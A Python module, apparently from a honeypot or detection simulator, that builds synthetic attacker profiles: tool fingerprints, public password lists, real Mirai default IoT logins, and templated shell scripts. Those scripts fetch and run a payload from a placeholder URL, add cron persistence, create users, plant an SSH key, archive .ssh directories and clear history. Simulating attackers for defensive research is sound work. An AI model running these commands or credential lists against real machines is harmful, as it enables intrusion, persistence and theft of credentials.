# SPDX-License-Identifier: MIT
"""What attackers have in common: tools, lists, kits, stock commands; and how they make up what is their own."""

from __future__ import annotations

import base64
import hashlib
from random import Random
from typing import NamedTuple

SYLLABLES = "ba be bo da di do fa fe fi ga go ka ke ki ko la le li lo ma me mi mo na ne no pa ra re ri ro sa se so ta te to va ve vi xa xi za ze zo".split()  # noqa: E501, SIM905
DECKIES = tuple(f"decky-{number:02}" for number in range(40))
COMMON_USERS = ("root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "git", "pi", "ftpuser")
COMMON_PASSWORDS = (
    *("123456", "admin", "password", "root", "1234", "12345678", "qwerty", "test", "P@ssw0rd", "raspberry"),
    *("ubuntu", "111111", "123123", "abc123", "admin123", "root123", "toor", "letmein", "1qaz2wsx", "changeme"),
)
MIRAI_LOGINS = (
    *(("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888")),
    *(("root", "xmhdipc"), ("root", "default"), ("root", "juantech"), ("root", "123456"), ("support", "support")),
    *(("root", "54321"), ("root", "klv123"), ("admin", "smcadmin"), ("root", "Zte521"), ("root", "7ujMko0vizxv")),
    *(("guest", "guest"), ("root", "dreambox"), ("root", "hi3518"), ("user", "user"), ("root", "ikwb")),
)
STOCK_RECONNAISSANCE = (
    *("uname -a", "whoami", "id", "w", "uptime", "free -m", "ls -la /", "cat /etc/passwd", "ps aux", "df -h"),
    *("cat /proc/cpuinfo | grep name | wc -l", "nproc", "lscpu | grep Model", "ifconfig", "crontab -l", "history"),
    *("cat /proc/version", "which wget curl", "netstat -antp", "ls -lh $(which ls)", "curl ifconfig.me", "env"),
)
SSH_CLIENTS = (
    *("SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-libssh_0.9.6", "SSH-2.0-paramiko_2.8.1", "SSH-2.0-PUTTY"),
    *("SSH-2.0-OpenSSH_7.4", "SSH-2.0-OpenSSH_8.2p1", "SSH-2.0-OpenSSH_9.2p1", "SSH-2.0-libssh2_1.10.0"),
    *("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3", "SSH-2.0-AsyncSSH_2.1.0", "SSH-2.0-JSCH-0.1.54", "SSH-2.0-sshlib-0.1"),
)
USER_AGENTS = (
    *("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "curl/7.68.0", "python-requests/2.31.0"),
    *("Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "masscan/1.3", "Wget/1.20.3", "Mozilla/5.0 (compatible; Nmap)"),
    *("Hello, World", "libwww-perl/6.05", "Mozilla/5.0 (X11; Linux x86_64)", "Apache-HttpClient/4.5.13 (Java)"),
)
PATHS = ("/", "/.env", "/.git/config", "/wp-login.php", "/actuator/health", "/login", "/robots.txt", "/api/v1/pods")
STACKS = (
    ("4:64+0:0:1460:mss*44,7:mss,sok,ts,nop,ws:df,id+:0", "29200:2-4-8-1-3:1460:7", "Linux"),
    ("4:64+0:0:1460:mss*20,10:mss,sok,ts,nop,ws:df,id+:0", "64240:2-4-8-1-3:1460:10", "Linux"),
    ("4:128+0:0:1460:8192,8:mss,nop,ws,nop,nop,sok:df,id+:0", "8192:2-1-3-1-1-4:1460:8", "Windows"),
    ("4:64+0:0:1460:65535,6:mss,nop,ws,nop,nop,ts,sok,eol+1:df:0", "65535:2-1-3-1-1-8-4-0:1460:6", "Mac OS X"),
    ("4:64+0:0:1380:mss*10,5:mss,sok,ts,nop,ws:df,id+:0", "13800:2-4-8-1-3:1380:5", "Linux"),
    ("4:255+0:0:0:1024,0:::0", "1024:::", ""),
)
FREE_HOSTS = ("raw.githubusercontent.com", "pastebin.com", "transfer.sh", "temp.sh", "cdn.discordapp.com")
DEFAULT_JARMS = tuple(hashlib.sha256(f"stock jarm {n}".encode()).hexdigest()[:62] for n in range(6))


OWN_LINES = 10
"""Of a script, besides stock reconnaissance; the last two fetch and start the payload."""


class Tools(NamedTuple):
    """The software of a machine as the sensors see it."""

    ssh_software: str
    hassh: str
    user_agent: str
    ja4: str
    headers: str
    stack: tuple[str, str, str]


class Kit(NamedTuple):
    """A tool that many use: its script, its logins and its client are the same for all of them."""

    lines: tuple[str, ...]
    logins: tuple[tuple[str, str], ...]
    tools: Tools


def word(dice: Random, syllables: int = 3) -> str:
    return "".join(dice.choices(SYLLABLES, k=syllables))


def digits(dice: Random, number: int) -> str:
    """Return so many random hexadecimal digits."""
    return f"{dice.getrandbits(4 * number):0{number}x}"


def zipf(dice: Random, number: int) -> int:
    """Return an index below `number`: few are frequent and most are rare."""
    return min(number - 1, int(number ** dice.random()) - 1)


def stock_tools(dice: Random) -> Tools:
    """Return the tools of somebody who uses what everybody uses."""
    ssh, agent = zipf(dice, len(SSH_CLIENTS)), zipf(dice, len(USER_AGENTS))
    return Tools(
        SSH_CLIENTS[ssh],
        hashlib.md5(f"{ssh}:{zipf(dice, 3)}".encode()).hexdigest(),
        USER_AGENTS[agent],
        f"t13d{1500 + agent}h2_8daaf6152771_{hashlib.md5(f'{agent}:{zipf(dice, 2)}'.encode()).hexdigest()[:12]}",
        hashlib.sha256(f"headers {agent}".encode()).hexdigest()[:32],
        STACKS[zipf(dice, len(STACKS) - 1)],
    )


def own_tools(dice: Random) -> Tools:
    """Return stock tools of which some are configured or built in a way of their owner's."""
    stock = stock_tools(dice)
    return Tools(
        f"{stock.ssh_software}_{word(dice, 2)}" if dice.random() < 0.15 else stock.ssh_software,
        digits(dice, 32) if dice.random() < 0.3 else stock.hassh,
        f"{word(dice)}/{dice.randrange(9)}.{dice.randrange(20)}" if dice.random() < 0.15 else stock.user_agent,
        f"t13d{dice.randrange(1000, 2000)}h1_{digits(dice, 12)}_{digits(dice, 12)}"
        if dice.random() < 0.25
        else stock.ja4,
        digits(dice, 32) if dice.random() < 0.15 else stock.headers,
        stock.stack,
    )


def kit(dice: Random) -> Kit:
    """Return a kit; `{url}` in its lines is where its user's payload lies."""
    name = word(dice, 2)
    lines = (
        f"cd /tmp || cd /var/run || cd /mnt || cd /root; rm -rf {name}*",
        f"wget {{url}} -O {name}.sh; curl -o {name}.sh {{url}}",
        f"chmod 777 {name}.sh; sh {name}.sh ssh; rm -rf {name}.sh",
        *dice.sample(STOCK_RECONNAISSANCE, 3),
        "history -c",
    )
    logins = tuple((dice.choice(COMMON_USERS), f"{name}{dice.randrange(100)}") for _ in range(3))
    return Kit(lines, logins, own_tools(dice))


def plan(dice: Random) -> tuple[int, ...]:
    """Return in which order somebody uses which lines of a script; those of the payload follow each other."""
    chosen = dice.sample(range(OWN_LINES - 2), dice.randrange(2, 6))
    place = dice.randrange(len(chosen) + 1)
    return (*chosen[:place], OWN_LINES - 2, OWN_LINES - 1, *chosen[place:])


def script(dice: Random, order: tuple[int, ...]) -> tuple[str, ...]:
    """Return the command lines that one person has made a habit of.

    `{url}` and `{host}` are those of the payload, `{key}` a public key, `{any}` another text at every visit.
    """
    place, name = f"/{dice.choice(('dev/shm', 'var/tmp', 'tmp', 'opt'))}/.{word(dice, 2)}", word(dice, 2)
    own = (
        f"mkdir -p {place} && cd {place} && ls -la",
        f"(crontab -l; echo '*/{dice.randrange(2, 30)} * * * * {place}/{name}') | crontab -",
        f"pkill -9 {word(dice, 2)}; pkill -9 {word(dice, 2)}",
        f"echo {word(dice)}:{word(dice)}{dice.randrange(1000)} | chpasswd",
        f"useradd -m -s /bin/bash {word(dice, 2)}{dice.randrange(100)}",
        f"grep -r {word(dice)} /etc /home 2>/dev/null | head -{dice.randrange(5, 60)}",
        f"tar czf {place}/{word(dice, 2)}.tgz /home/*/.ssh /etc/{word(dice, 2)}",
        "mkdir -p ~/.ssh; echo '{key}' >> ~/.ssh/authorized_keys",
        f"wget -q {{url}} -O {name}{{any}} || curl -s {{url}} -o {name}{{any}}",
        f"chmod +x {name}{{any}}; nohup ./{name}{{any}} -c {{host}} -w {word(dice)} >/dev/null 2>&1 &",
    )
    return (*dice.sample(STOCK_RECONNAISSANCE, dice.randrange(1, 4)), *(own[index] for index in order))


def private_logins(dice: Random) -> tuple[tuple[str, str], ...]:
    """Return logins from a list that nobody else has."""
    users = (*COMMON_USERS, word(dice), word(dice))
    return tuple(
        (dice.choice(users), f"{word(dice)}{dice.choice('!@#_')}{dice.randrange(10_000)}")
        for _ in range(dice.randrange(3, 11))
    )


def public_list(number: int) -> tuple[tuple[str, str], ...]:
    """Return one of the public password lists, in its order; who walks it begins at its beginning."""
    dice = Random(f"list {number}")
    return tuple((dice.choice(COMMON_USERS), dice.choice(COMMON_PASSWORDS)) for _ in range(40))


def public_key(dice: Random) -> tuple[str, str]:
    """Return the fingerprint of a public key, and its line in authorized_keys."""
    body = dice.randbytes(64)
    fingerprint = base64.b64encode(hashlib.sha256(body).digest()).decode().rstrip("=")
    return (
        f"SHA256:{fingerprint}",
        f"ssh-rsa AAAAB3NzaC1yc2E{base64.b64encode(body).decode()} {word(dice, 2)}@{word(dice)}",
    )


def hostname(dice: Random) -> str:
    """Return where payloads lie: an address or a name."""
    if dice.random() < 0.6:
        return ".".join(str(dice.randrange(11, 220)) for _ in range(4))
    return f"{word(dice)}.{word(dice, 2)}.{dice.choice(('top', 'xyz', 'ru', 'cc', 'su'))}"
